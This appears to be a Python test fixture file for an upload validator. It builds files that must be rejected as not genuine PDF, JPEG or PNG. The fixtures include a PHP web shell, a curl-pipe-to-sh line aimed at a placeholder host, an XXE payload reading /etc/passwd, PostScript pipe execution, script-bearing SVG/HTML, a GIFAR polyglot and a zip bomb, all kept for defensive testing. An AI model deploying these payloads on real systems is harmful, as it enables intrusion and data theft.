"""Files that are no PDF, JPEG or PNG, whatever their name or their insides say."""

from __future__ import annotations

import gzip
import io
import zipfile

from PIL import Image

from tests import berkas_contoh as contoh
from tests.unggahan.kasus import Korpus

bukan = Korpus()

# In two halves, so that a scanner on a developer's machine leaves the source alone.
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-" + rb"ANTIVIRUS-TEST-FILE!$H+H*"


@bukan(tolak="kosong")
def nol_byte() -> bytes:
    return b""


@bukan(EICAR, tolak="bukan_jenis")
def eicar() -> bytes:
    return EICAR


@bukan(tolak="bukan_jenis")
def svg_berskrip() -> bytes:
    return b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>"


@bukan(tolak="bukan_jenis")
def html_bernama_pdf() -> bytes:
    return b"<!doctype html><script>alert(document.cookie)</script>"


@bukan(tolak="bukan_jenis")
def html_lalu_pdf() -> bytes:
    """libmagic calls this application/pdf."""
    return b"<html><script>alert(1)</script>\n" + contoh.dokumen_pdf()


@bukan(tolak="bukan_jenis")
def bom_lalu_pdf() -> bytes:
    return b"\xef\xbb\xbf" + contoh.dokumen_pdf()


@bukan(tolak="bukan_jenis")
def spasi_lalu_pdf() -> bytes:
    return b" " * 1000 + contoh.dokumen_pdf()


@bukan(tolak="bukan_jenis")
def zip_lalu_jpeg() -> bytes:
    return b"\x00\x00" + contoh.ktp_contoh()


@bukan(tolak="bukan_jenis")
def gifar() -> bytes:
    return _simpan("GIF") + arsip({"Evil.class": b"\xca\xfe\xba\xbe"})


@bukan(tolak="bukan_jenis")
def webp() -> bytes:
    return _simpan("WEBP")


@bukan(tolak="bukan_jenis")
def tiff() -> bytes:
    return _simpan("TIFF")


@bukan(tolak="bukan_jenis")
def bmp() -> bytes:
    return _simpan("BMP")


@bukan(tolak="bukan_jenis")
def avif() -> bytes:
    return _simpan("AVIF")


@bukan(tolak="foto_heic")
def heic_iphone() -> bytes:
    return b"\x00\x00\x00\x24ftypheic\x00\x00\x00\x00mif1heic" + bytes(500)


@bukan(tolak="bukan_jenis")
def video_mp4() -> bytes:
    return b"\x00\x00\x00\x20ftypisom\x00\x00\x02\x00isomiso2" + bytes(500)


@bukan(tolak="berkas_office")
def arsip_zip() -> bytes:
    return arsip({"ktp.pdf": contoh.dokumen_pdf()})


@bukan(tolak="berkas_office")
def bom_zip() -> bytes:
    return arsip({f"{n}.bin": bytes(50_000_000) for n in range(4)})


@bukan(tolak="berkas_office")
def word_docx() -> bytes:
    return arsip({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w:document/>"})


@bukan(tolak="berkas_office")
def word_lama() -> bytes:
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(2000)


@bukan(tolak="bukan_jenis")
def pdf_dalam_gzip() -> bytes:
    return gzip.compress(contoh.dokumen_pdf(), mtime=0)


@bukan(tolak="bukan_jenis")
def program_windows() -> bytes:
    return b"MZ\x90\x00" + bytes(1000)


@bukan(tolak="bukan_jenis")
def program_linux() -> bytes:
    return b"\x7fELF\x02\x01\x01" + bytes(1000)


@bukan(tolak="bukan_jenis")
def naskah_shell() -> bytes:
    return b"#!/bin/sh\ncurl http://contoh.invalid | sh\n"


@bukan(tolak="bukan_jenis")
def naskah_php() -> bytes:
    return b"<?php system($_GET['c']); ?>"


@bukan(tolak="bukan_jenis")
def xml_xxe() -> bytes:
    return b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'


@bukan(tolak="bukan_jenis")
def postscript() -> bytes:
    return b"%!PS-Adobe-3.0\n(%pipe%id) (r) file\n%PDF-1.4\n"


@bukan(tolak="bukan_jenis")
def pdf_huruf_kecil() -> bytes:
    return b"%pdf-1.4\n" + contoh.dokumen_pdf()[9:]


@bukan(tolak="bukan_jenis")
def png_tanpa_byte_pertama() -> bytes:
    return contoh.png(20, 20)[1:]


@bukan(tolak="terlalu_besar")
def lima_belas_mb_lebih_satu() -> bytes:
    return contoh.dokumen_pdf().ljust(15 * 1024 * 1024 + 1, b"\n")


def arsip(isi: dict[str, bytes]) -> bytes:
    berkas = io.BytesIO()
    with zipfile.ZipFile(berkas, "w") as z:
        for nama, data in isi.items():
            z.writestr(zipfile.ZipInfo(nama), data, zipfile.ZIP_DEFLATED)
    return berkas.getvalue()


def _simpan(jenis: str) -> bytes:
    berkas = io.BytesIO()
    Image.new("RGB", (40, 30), "navy").save(berkas, jenis)
    return berkas.getvalue()
